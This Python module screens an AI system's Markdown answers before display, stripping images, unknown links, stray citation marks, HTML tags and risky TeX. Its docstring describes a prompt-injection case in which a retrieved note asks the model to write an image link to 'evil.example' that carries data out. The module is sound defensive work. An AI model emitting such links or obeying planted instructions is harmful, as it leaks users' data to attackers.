"""What of an answer may be shown: no image, no address that its passages lack, no mark without a passage.

A note may hold a text that asks a model to write `![](https://evil.example/?what-the-notes-say)`: to show it
would send that. So an answer is made harmless before anyone sees it, piece by piece: what a Markdown view
would load, run or follow is taken apart by what it begins with. An address that stands in a passage, as it
is, may stay; images never do. Pure (D54).
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator

# What is held back until it is whole is no longer than this; what is longer is taken apart.
MAX_HELD = 2000
GONE = "…"
# Code that a view only colours. Other code may belong to a plugin that runs it: its name goes into the code.
_COLOURED_CODE = """bash c cpp css diff go html ini java json latex lua markdown md php python r ruby rust
sh sql text toml ts typescript xml yaml"""
_COLOURED = frozenset(_COLOURED_CODE.split())
# As far as any view would take an address to go; a mark may follow it.
_ADDRESS = re.compile(
    r"(?:[A-Za-z][A-Za-z0-9+.-]{0,30}://|\bwww\.|\b(?:javascript|data|vbscript|file|obsidian|logseq|mailto|blob"
    r"|tel|sms):(?=[^\s:]))(?>(?:[^\s<\[]++|\[(?!\d+\](?:[\s\[.,;:!?)]|\Z)))*)",
    re.IGNORECASE,
)
_TRAILING = ".,;:!?'\"*_~`()[]{}|>"
# Possessive throughout: the text is anybody's, and no length of it may cost more than its length. Groups are
# atomic instead: Python before 3.11.5 goes wrong where a possessive one is matched in part.
_MARKS = re.compile(r"([ \t]*+)\[\s*+(\d++(?>(?:\s*+[,;]\s*+\d++)*))\s*+\]")
_TARGET = re.compile(r"\]\(\s*+(?:<([^<>]*+)>|([^\s()]*+(?>(?:\([^\s()]*+\)[^\s()]*+)*)))(?:\s++[^()]*+)?\)")
_IMAGE = re.compile(r"!++(?=\[)")
_TAG = re.compile(r"<(?=[A-Za-z/!?%])")
_DEFINITION = re.compile(r"\](?=:)")
_FENCE = re.compile(r"(`{3,}+|~{3,}+)[ \t]*+([^\s`~]++)")
_INLINE_QUERY = re.compile(r"(?<![^\s(])`++(?=\s*+\$?=)")
_TEX = re.compile(r"\\(?=(?:href|url|includegraphics|require|html\w*|cssId|class|style|def|let)\b)")
_WHOLE_TARGET = "]\ufdd0("  # a code point that no text has
_SPACES = (" ", "\n", "\t")


class Screen:
    """Lets through what of one answer is harmless. taken_out: how many images and addresses were not.

    passages: the Markdown of the passages that the answer may cite, by numbers from 1.
    """

    def __init__(self, passages: Iterable[str]) -> None:
        texts = list(passages)
        self._count = len(texts)
        self._known = {address for text in texts for address in _addresses(text)}
        self._held = ""
        self.taken_out = 0

    def feed(self, text: str) -> str:
        """Return what of a piece, and of what was held before it, can be shown."""
        self._held += text
        end = _settled(self._held)
        if len(self._held) - end > MAX_HELD:
            end = len(self._held)
        ready, self._held = self._held[:end], self._held[end:]
        return self.whole(ready)

    def end(self) -> str:
        """Return what is still held when nothing follows."""
        ready, self._held = self._held, ""
        return self.whole(ready)

    def whole(self, text: str) -> str:
        """Return what of a whole text can be shown. What is shown is harmless: it comes back unchanged."""
        while (screened := self._harmless(text)) != text:
            text = screened
        return text

    def _harmless(self, text: str) -> str:
        text = _MARKS.sub(self._marks, text.replace("\ufdd0", ""))
        text = _FENCE.sub(_fence, text)
        text, images = _IMAGE.subn("", text)
        self.taken_out += images
        text = _TARGET.sub(self._target, text).replace("](", "] (").replace(_WHOLE_TARGET, "](")
        text = _ADDRESS.sub(self._address, text)
        text = _TEX.sub("", _INLINE_QUERY.sub("", text))
        return _DEFINITION.sub("] ", _TAG.sub("< ", text))

    def _target(self, found: re.Match[str]) -> str:
        target = found[1] or found[2] or ""
        if target in self._known:
            return f"{_WHOLE_TARGET}{target})"
        self.taken_out += 1
        return "]"

    def _address(self, found: re.Match[str]) -> str:
        bare = found[0].rstrip(_TRAILING)
        if bare in self._known:
            return found[0]
        self.taken_out += 1
        return GONE + found[0][len(bare) :]

    def _marks(self, found: re.Match[str]) -> str:
        numbers = dict.fromkeys(map(int, re.findall(r"\d+", found[2])))
        marks = "".join(f"[{number}]" for number in numbers if 1 <= number <= self._count)
        return found[1] + marks if marks else ""


def _settled(text: str) -> int:
    """Return up to where a text stays as it is whatever follows: before a word, a target or a mark begins."""
    # The space before a mark goes with it.
    end = len(text[: max(text.rfind(space) for space in _SPACES) + 1].rstrip())
    target = text.rfind("](", 0, end)
    if target >= 0 and ")" not in text[target:end]:
        end = target
    mark = text.rfind("[", 0, end)
    if mark >= 0 and not text[mark + 1 : end].strip("0123456789,; \t\n"):
        end = mark
    if text[end : end + 1] == "[":  # what makes it an image goes with it
        end = len(text[:end].rstrip("!"))
    bare = text[:end].rstrip()
    if bare.endswith(("`", "~")):
        end = len(bare.rstrip("`~"))
    return end


def _fence(found: re.Match[str]) -> str:
    return found[0] if found[2].lower() in _COLOURED else f"{found[1]}\n{found[2]}"


def _addresses(markdown: str) -> Iterator[str]:
    """Yield the addresses that a text holds, and the targets of its links."""
    for found in _ADDRESS.finditer(markdown):
        yield found[0].rstrip(_TRAILING)
    for found in _TARGET.finditer(markdown):
        yield found[1] or found[2] or ""
